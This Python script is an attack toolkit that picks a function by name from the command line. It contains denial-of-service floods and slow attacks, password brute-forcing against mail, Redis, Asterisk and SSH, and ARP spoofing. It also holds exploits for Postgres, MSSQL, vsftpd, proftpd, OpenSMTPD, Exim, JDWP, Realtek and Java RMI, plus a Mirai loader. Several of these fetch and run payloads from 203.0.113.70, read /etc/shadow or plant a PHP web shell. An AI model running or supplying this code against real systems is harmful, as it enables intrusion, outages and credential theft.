#!/usr/bin/env python3
"""Floods, slow attacks, passwords, forgeries and exploits that are no web requests.  plain.py NAME ARGUMENTS..."""
import base64
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from wire import checksum, connect, ip, paced, pause, quietly, secure, sender, tcp, together, until, word  # noqa: E402

AGENTS = ["Mozilla/5.0 (X11; U; Linux x86_64; en-US; rv:1.9.1.3) Gecko/20090913 Firefox/3.5.3", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.2; Win64; x64; Trident/4.0)", "Mozilla/5.0 (Windows; U; Windows NT 6.1; en; rv:1.9.1.3) Gecko/20090824 Firefox/3.5.3", "Opera/9.80 (Windows NT 5.2; U; ru) Presto/2.5.22 Version/10.51"]


def chance(count):
    return "".join(random.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(count))


# Floods

def hulk(target, threads, seconds):
    """HULK: each request another query, agent and referer, no cache, a connection each."""
    def one_thread():
        for _ in until(seconds):
            try:
                with connect(target, 80) as s:
                    s.sendall(f"GET /?{chance(5)}={chance(7)} HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(AGENTS)}\r\nCache-Control: no-cache\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\nReferer: http://www.search.example/?q={chance(8)}\r\nKeep-Alive: {random.randint(110, 120)}\r\nConnection: keep-alive\r\n\r\n".encode())
                    s.recv(2000)
                time.sleep(0.05)
            except OSError:
                pass
    together(*[one_thread] * int(threads))


def loic_tcp(target, port, threads, seconds):
    """Connections into which one sentence is written as fast as they take it."""
    def one_thread():
        for _ in until(seconds):
            try:
                with connect(target, port) as s:
                    for _ in range(2000):
                        s.sendall(b"U dun goofed")
                        time.sleep(0.002)
            except OSError:
                time.sleep(0.05)
    together(*[one_thread] * int(threads))


def loic_udp(target, port, threads, seconds):
    def one_thread():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in paced(float(seconds) * 250, 250):
            quietly(s.sendto, b"A cat is fine too. Desudesudesu~", (target, int(port)))
    together(*[one_thread] * int(threads))


def pingback(count, target, rate, seconds):
    """Blogs that were told of a link here all come to look."""
    def one_bot(i):
        for _ in paced(float(rate) * float(seconds), rate):
            try:
                with connect(target, 80, f"198.51.100.{101 + i}") as s:
                    s.sendall(f"GET / HTTP/1.0\r\nUser-Agent: WordPress/{random.randint(4, 6)}.{i % 9}; http://blog{i}.example; verifying pingback from 203.0.113.45\r\nHost: {target}\r\nAccept: */*\r\n\r\n".encode())
                    s.recv(4096)
            except OSError:
                pass
    together(*(lambda i=i: one_bot(i) for i in range(int(count))))


def smurf(target, rate, seconds):
    s = sender()
    for i in paced(float(rate) * float(seconds), rate):
        body = struct.pack("!HH", 7, i & 0xFFFF) + b"\0" * 56
        source = f"192.0.2.{random.randint(2, 250)}"
        s.sendto(ip(source, target, 1, struct.pack("!BBH", 0, 0, checksum(b"\0\0\0\0" + body)) + body), (target, 0))


def invites(target, rate, seconds):
    """inviteflood: INVITE after INVITE for one extension from one port."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in paced(float(rate) * float(seconds), rate):
        quietly(s.sendto, f"INVITE sip:100@{target} SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.45:9;branch=z9hG4bK{i:08x}\r\nMax-Forwards: 70\r\nContent-Length: 0\r\nTo: 100 <sip:100@{target}>\r\nFrom: <sip:x@198.51.100.45>;tag={i:x}\r\nCall-ID: {os.urandom(8).hex()}\r\nCSeq: {i} INVITE\r\n\r\n".encode(), (target, 5060))


def quake(target, rate, seconds):
    s, many = sender(), [f"{random.randint(20, 170)}.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}" for _ in range(60)]
    for _ in paced(float(rate) * float(seconds), rate):
        data = b"\xff\xff\xff\xffstatusResponse\n\\sv_hostname\\" + os.urandom(500).hex().encode()
        s.sendto(ip(random.choice(many), target, 17, struct.pack("!4H", 27960, 80, 8 + len(data), 0) + data), (target, 0))


def arp_storm(interface, rate, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    mine = s.getsockname()[4]
    for i in paced(float(rate) * float(seconds), rate):
        s.send(b"\xff" * 6 + mine + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + mine + socket.inet_aton("10.66.20.77") + b"\0" * 6 + socket.inet_aton(f"10.66.20.{i % 254 + 1}"))


def xerxes(target, port, threads, seconds):
    """Connections into which a zero byte is written again and again, and that are made anew when they break."""
    def one_thread():
        for _ in until(seconds):
            try:
                with connect(target, port) as s:
                    for _ in until(seconds):
                        s.sendall(b"\0")
                        time.sleep(0.003)
            except OSError:
                time.sleep(0.02)
    together(*[one_thread] * int(threads))


def igmp(source, target, rate, seconds):
    s = sender()
    for _ in paced(float(rate) * float(seconds), rate):
        body = struct.pack("!BBH4s", 0x11, 0, 0xEEFF, b"\0\0\0\0")
        s.sendto(ip(source, target, 2, body), (target, 0))


def smtp_bodies(target, threads, seconds):
    """Mail after mail over connections of their own, as fast as they are taken (a mail bomb)."""
    def one_thread():
        for _ in until(seconds):
            try:
                with connect(target, 25) as s:
                    s.recv(300)
                    for line in (b"HELO x\r\n", b"MAIL FROM:<a@b.example>\r\n", b"RCPT TO:<boss@depot.example>\r\n", b"DATA\r\n", b"Subject: x\r\n\r\n" + b"spam " * 200 + b"\r\n.\r\n"):
                        s.sendall(line)
                        s.recv(300)
            except OSError:
                pass
    together(*[one_thread] * int(threads))


# Slow

def hold(target, port, count, seconds, first, drip, every, jitter=10, tls=False, reads=False):
    held = []
    for _ in range(int(count)):
        try:
            s = secure(target, port) if tls else connect(target, port)
            if reads:
                s.recv(2000)
            s.sendall(first())
            held.append(s)
        except OSError:
            pass
        time.sleep(0.03)
    for end in until(float(seconds) - 0.03 * int(count)):
        for s in held:
            quietly(s.sendall, drip())
        pause(every, jitter, end)


def slowloris_default(target, count, seconds):
    """slowloris.py: a header every fifteen seconds."""
    hold(target, 80, count, seconds, lambda: f"GET /?{random.randint(0, 2000)} HTTP/1.1\r\nUser-Agent: {AGENTS[0]}\r\nAccept-language: en-US,en,q=0.5\r\n".encode(), lambda: f"X-a: {random.randint(1, 5000)}\r\n".encode(), 15)


def hammer(target, count, seconds):
    """Tor's hammer: a body of a letter every tenth of a second to three seconds, by as many threads."""
    def one_thread():
        for _ in until(seconds):
            try:
                with connect(target, 80) as s:
                    s.sendall(f"POST /upload.php HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {random.choice(AGENTS)}\r\nConnection: keep-alive\r\nKeep-Alive: 900\r\nContent-Length: 10000\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n".encode())
                    for _ in until(seconds):
                        s.sendall(random.choice(b"abcdefghijklmnopqrstuvwxyz").to_bytes(1, "big"))
                        time.sleep(random.uniform(0.1, 3))
            except OSError:
                time.sleep(1)
    together(*[one_thread] * int(count))


def chunks(target, count, seconds):
    hold(target, 80, count, seconds, lambda: f"POST /upload.php HTTP/1.1\r\nHost: {target}\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), lambda: b"1\r\na\r\n", 5)


def smtp_drip(target, count, seconds):
    hold(target, 25, count, seconds, lambda: b"EHLO", lambda: b" ", 8, reads=True)


def sockstress(source, target, port, count, seconds):
    """Connections that are opened by hand and then have no window; whose kernel must not answer for them (its resets are dropped)."""
    s = sender()
    listen = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    listen.settimeout(0.2)
    for i in range(int(count)):
        mine = 20000 + i
        s.sendto(ip(source, target, 6, tcp(source, target, mine, int(port), 2, b"\2\4\5\xb4")), (target, 0))
        for _ in range(50):
            try:
                data = listen.recv(2000)
            except TimeoutError:
                break
            at = (data[0] & 15) * 4
            sport, dport, seq, ack = struct.unpack("!HHII", data[at:at + 12])
            if dport == mine and data[at + 13] & 0x12 == 0x12:
                for flags, body in ((0x10, b""), (0x18, b"GET /static/catalogue.csv HTTP/1.1\r\nHost: x\r\n\r\n")):
                    head = struct.pack("!HHIIBBHHH", mine, int(port), ack, seq + 1 & 0xFFFFFFFF, 0x50, flags, 0, 0, 0)
                    total = checksum(socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, 20 + len(body)) + head + body)
                    s.sendto(ip(source, target, 6, head[:16] + struct.pack("!H", total) + head[18:] + body), (target, 0))
                break
        time.sleep(0.05)
    # Each probe of the window is answered: there is none.
    for _ in until(seconds):
        try:
            data = listen.recv(2000)
        except TimeoutError:
            continue
        at = (data[0] & 15) * 4
        sport, dport, seq, ack = struct.unpack("!HHII", data[at:at + 12])
        if 20000 <= dport < 20000 + int(count) and not data[at + 13] & 6:
            head = struct.pack("!HHIIBBHHH", dport, sport, ack, seq, 0x50, 0x10, 0, 0, 0)
            total = checksum(socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, 20) + head)
            s.sendto(ip(source, target, 6, head[:16] + struct.pack("!H", total) + head[18:]), (target, 0))


def trickle(target, count, seconds):
    """A large file read a hundred bytes a second through a small window."""
    held = []
    for _ in range(int(count)):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        s.settimeout(3)
        if quietly(s.connect, (target, 80)) is None:
            quietly(s.sendall, f"GET /static/catalogue.csv HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            held.append(s)
        time.sleep(0.05)
    for end in until(float(seconds) - 0.05 * int(count)):
        for s in held:
            quietly(s.recv, 100)
        pause(1, 0, end)


# Passwords

def redis_one(target, count):
    """One connection, an AUTH a message."""
    with connect(target, 6379) as s:
        for i in range(int(count)):
            s.sendall(f"AUTH {word(i)}\r\n".encode())
            s.recv(200)
            time.sleep(0.02)


def smtp_plain(target, count):
    for i in range(int(count)):
        try:
            with connect(target, 25) as s:
                s.recv(500)
                s.sendall(b"EHLO x\r\n")
                s.recv(500)
                s.sendall(b"AUTH PLAIN " + base64.b64encode(b"\0info@depot.example\0" + word(i).encode()) + b"\r\n")
                s.recv(500)
        except OSError:
            pass
        time.sleep(0.25)


def imap_plain(target, count):
    for i in range(int(count)):
        try:
            with connect(target, 143) as s:
                s.recv(500)
                s.sendall(b"a AUTHENTICATE PLAIN " + base64.b64encode(b"\0boss\0" + word(i).encode()) + b"\r\n")
                s.recv(500)
        except OSError:
            pass
        time.sleep(0.25)


def vrfy(target, count):
    """Names asked for by VRFY and RCPT TO, twenty a connection."""
    for i in range(int(count) // 20):
        with connect(target, 25) as s:
            s.recv(500)
            s.sendall(b"HELO x\r\n")
            s.recv(500)
            for k in range(20):
                s.sendall(f"VRFY {word(i * 20 + k)}\r\n".encode())
                s.recv(500)
                time.sleep(0.05)


def ami(target, count):
    for i in range(int(count)):
        with connect(target, 5038) as s:
            s.recv(200)
            s.sendall(f"Action: Login\r\nUsername: admin\r\nSecret: {word(i)}\r\n\r\n".encode())
            s.recv(500)
        time.sleep(0.2)


def paramiko_loop(target, count):
    import paramiko
    for i in range(int(count)):
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(target, username=("root", "admin", "ubuntu", "pi", "oracle")[i % 5], password=word(i), timeout=5, banner_timeout=5, auth_timeout=5, allow_agent=False, look_for_keys=False)
        except Exception as e:  # every password is refused: paramiko has its own exceptions
            print(e)
        c.close()
        time.sleep(0.3)


# Links

def mitm(interface, victim, gateway, every, seconds):
    """scapy's recipe: both are told, each by itself, every so often."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    mine, macs = s.getsockname()[4], {}
    ask = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    ask.bind((interface, 0x0806))
    ask.settimeout(2)
    for address in (victim, gateway):
        me = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        me.connect((victim, 9))
        s.send(b"\xff" * 6 + mine + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + mine + socket.inet_aton(me.getsockname()[0]) + b"\0" * 6 + socket.inet_aton(address))
        for _ in range(20):
            data = ask.recv(100)
            if data[20:22] == b"\0\2" and data[28:32] == socket.inet_aton(address):
                macs[address] = data[22:28]
                break
    for end in until(seconds):
        for one, other in ((victim, gateway), (gateway, victim)):
            s.send(macs[one] + mine + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + mine + socket.inet_aton(other) + macs[one] + socket.inet_aton(one))
        pause(every, 0, end)


def netcut(interface, victim_mac, victim, gateway, count):
    """The victim is told a link address for the gateway that nobody has."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    mine = s.getsockname()[4]
    for _ in range(int(count)):
        s.send(bytes.fromhex(victim_mac.replace(":", "")) + mine + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + b"\2\x13\x37\x13\x37\1" + socket.inet_aton(gateway) + bytes.fromhex(victim_mac.replace(":", "")) + socket.inet_aton(victim))
        time.sleep(1)


# Exploits

def ms17(target):
    """What the test for MS17-010 and then EternalBlue send first: SMB1 log-in as nobody, IPC$, a transaction on FID 0, a large NT transaction, parts that do not fit."""
    tid = uid = 0
    with connect(target, 445) as s:
        s.settimeout(2)

        def say(command, words, data):
            body = bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
            message = b"\xffSMB" + struct.pack("<BIBHHQHHHHH", command, 0, 0x18, 0x4001, 0, 0, 0, tid, 0xFEFF, uid, 64) + body
            quietly(s.sendall, struct.pack("!I", len(message)) + message)
            return quietly(s.recv, 4096) or b"\0" * 40

        say(0x72, b"", b"\2NT LM 0.12\0")
        uid = struct.unpack("<H", say(0x73, b"\xff\0\0\0" + struct.pack("<HHHIHHII", 61440, 2, 1, 0, 1, 0, 0, 0xC0), b"\0\0\0Windows 2000 2195\0Windows 2000 5.0\0")[32:34])[0]
        tid = struct.unpack("<H", say(0x75, b"\xff\0\0\0\0\0\1\0", b"\0" + f"\\\\{target}\\IPC$".encode() + b"\0?????\0")[28:30])[0]
        say(0x25, struct.pack("<HHHHBBHIHHHHHBBHH", 0, 0, 0xFFFF, 0xFFFF, 0, 0, 0, 0, 0, 0, 74, 0, 74, 2, 0, 0x23, 0), b"\\PIPE\\\0")
        say(0x32, struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0x1A8925, 0, 12, 66, 0, 78, 1, 0, 14), b"\0" * 13)
        say(0xA0, struct.pack("<BHIIIIIIIIBH", 1, 0, 30, 66512, 30, 0, 30, 75, 976, 104, 1, 0) + b"\0\0", b"\0" * 1000)
        for i in range(15):
            say(0x33, struct.pack("<HHHHHHHHH", 0, 4096, 0, 0, 0, 4096, 53, i * 4096 & 0xFFFF, 0), b"A" * 4000)


def postgres_program(target):
    """The database of another's machine, trusted from anywhere: a program's output as a table."""
    with connect(target, 5432) as s:
        body = b"\0\3\0\0user\0postgres\0database\0postgres\0\0"
        s.sendall(struct.pack("!I", len(body) + 4) + body)
        s.recv(2000)
        for text in (b"SELECT version();", b"DROP TABLE IF EXISTS cmd_exec;CREATE TABLE cmd_exec(cmd_output text);", b"COPY cmd_exec FROM PROGRAM 'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcwL3guc2h8YmFzaA==|base64 -d|bash';", b"SELECT * FROM cmd_exec;"):
            s.sendall(b"Q" + struct.pack("!I", len(text) + 5) + text + b"\0")
            s.recv(2000)
            time.sleep(0.5)


def mssql_shell(target):
    def batch(text):
        data = b"\x16\0\0\0\x12\0\0\0\2\0\0\0\0\0\0\0\0\0\1\0\0\0" + text.encode("utf-16-le")
        return struct.pack("!BBHHBB", 1, 1, len(data) + 8, 0, 1, 0) + data
    with connect(target, 1433) as s:
        hello = bytes.fromhex("00001a00060100200001020021000103002200040400260001ff09000000000002000000000000")
        s.sendall(struct.pack("!BBHHBB", 0x12, 1, len(hello) + 8, 0, 1, 0) + hello)
        s.recv(2000)
        s.sendall(struct.pack("!BBHHBB", 0x10, 1, 152, 0, 1, 0) + b"\x90\0\0\0\4\0\0t" + b"\0" * 136)
        s.recv(2000)
        for text in ("EXEC sp_configure 'show advanced options',1;RECONFIGURE;", "EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;", "EXEC master..xp_cmdshell 'powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString(''http://203.0.113.70/a.ps1'')\"'"):
            s.sendall(batch(text))
            s.recv(2000)
            time.sleep(0.5)


def ftp_doors(target):
    """vsftpd 2.3.4's smile with the shell behind it, and proftpd's copying without a log-in."""
    with connect(target, 21) as s:
        s.recv(500)
        s.sendall(b"USER backdoored:)\r\n")
        s.recv(500)
        s.sendall(b"PASS letmein\r\n")
        time.sleep(0.5)
    with connect(target, 6200) as s:
        for line in (b"id\n", b"uname -a\n", b"cat /etc/shadow\n"):
            s.sendall(line)
            s.recv(500)
            time.sleep(0.5)
    with connect(target, 21) as s:
        s.recv(500)
        for line in (b"SITE CPFR /proc/self/cmdline", b"SITE CPTO /tmp/.<?php passthru($_GET['c']);?>", b"SITE CPFR /tmp/.<?php passthru($_GET['c']);?>", b"SITE CPTO /var/www/html/c.php"):
            s.sendall(line + b"\r\n")
            s.recv(500)


def mail_doors(target):
    """OpenSMTPD's sender that runs (CVE-2020-7247) and Exim's recipient (CVE-2019-10149)."""
    for lines in ((b"MAIL FROM:<;for i in 0 1 2 3 4 5 6 7 8 9 a b c d;do read r;done;sh;exit 0;>", b"RCPT TO:<root>", b"DATA"), (b"MAIL FROM:<x@y.example>", b"RCPT TO:<${run{\\x2fbin\\x2fsh\\x20-c\\x20\\x22curl\\x20203.0.113.70\\x22}}@depot.example>", b"DATA")):
        with connect(target, 25) as s:
            s.recv(500)
            s.sendall(b"HELO x\r\n")
            s.recv(500)
            for line in lines:
                s.sendall(line + b"\r\n")
                s.recv(500)
            s.sendall(b"\r\n" * 14 + b"curl http://203.0.113.70/x.sh | sh\r\n.\r\n")
        time.sleep(0.5)


def jdwp(target):
    with connect(target, 8000) as s:
        s.sendall(b"JDWP-Handshake")
        s.recv(100)
        for i, (group, command, data) in enumerate(((1, 1, b""), (1, 7, b""), (1, 3, b""), (1, 2, struct.pack("!I", 19) + b"Ljava/lang/Runtime;"), (1, 11, struct.pack("!I", 46) + b"bash -c {echo,Y3VybCAyMDMuMC4xMTMuNzA=}|bash -i"), (9, 1, b"\0" * 24), (10, 1, b"\0" * 8), (9, 6, b"\0" * 60))):
            s.sendall(struct.pack("!IIBBB", 11 + len(data), i, 0, group, command) + data)
            s.recv(500)
            time.sleep(0.2)


def telnet_default(target):
    """A camera's password that everybody knows, then Mirai's questions and its loader; the same again by RTSP."""
    with connect(target, 2323) as s:
        for line in (b"root", b"xc3511", b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI", b"cat /proc/mounts; /bin/busybox ECCHI", b"cd /tmp; /bin/busybox wget http://203.0.113.70:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.arm; /bin/busybox ECCHI"):
            s.settimeout(1)
            quietly(s.recv, 500)
            s.sendall(line + b"\r\n")
            time.sleep(0.3)


def realtek(target):
    """CVE-2021-35394: a diagnosis by UDP that runs what it is told."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
        s.sendto(b"orf;cd /tmp; wget http://203.0.113.70/b/mips; chmod 777 mips; ./mips realtek", (target, 9034))
        time.sleep(1)


def rmi(target):
    """A serialised object to a Java registry, as ysoserial's JRMP client sends it."""
    with connect(target, 1099) as s:
        s.sendall(b"JRMI\0\2K\0\0\0\0\0\0")
        quietly(s.recv, 300)
        s.sendall(b"P\xac\xed\0\5w\x22" + b"\0" * 33 + b"\2sr\0\x2ejava.util.PriorityQueuexr\0org.apache.commons.collections4.functors.InvokerTransformer\x74\0\4exec" + os.urandom(300))
        time.sleep(1)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
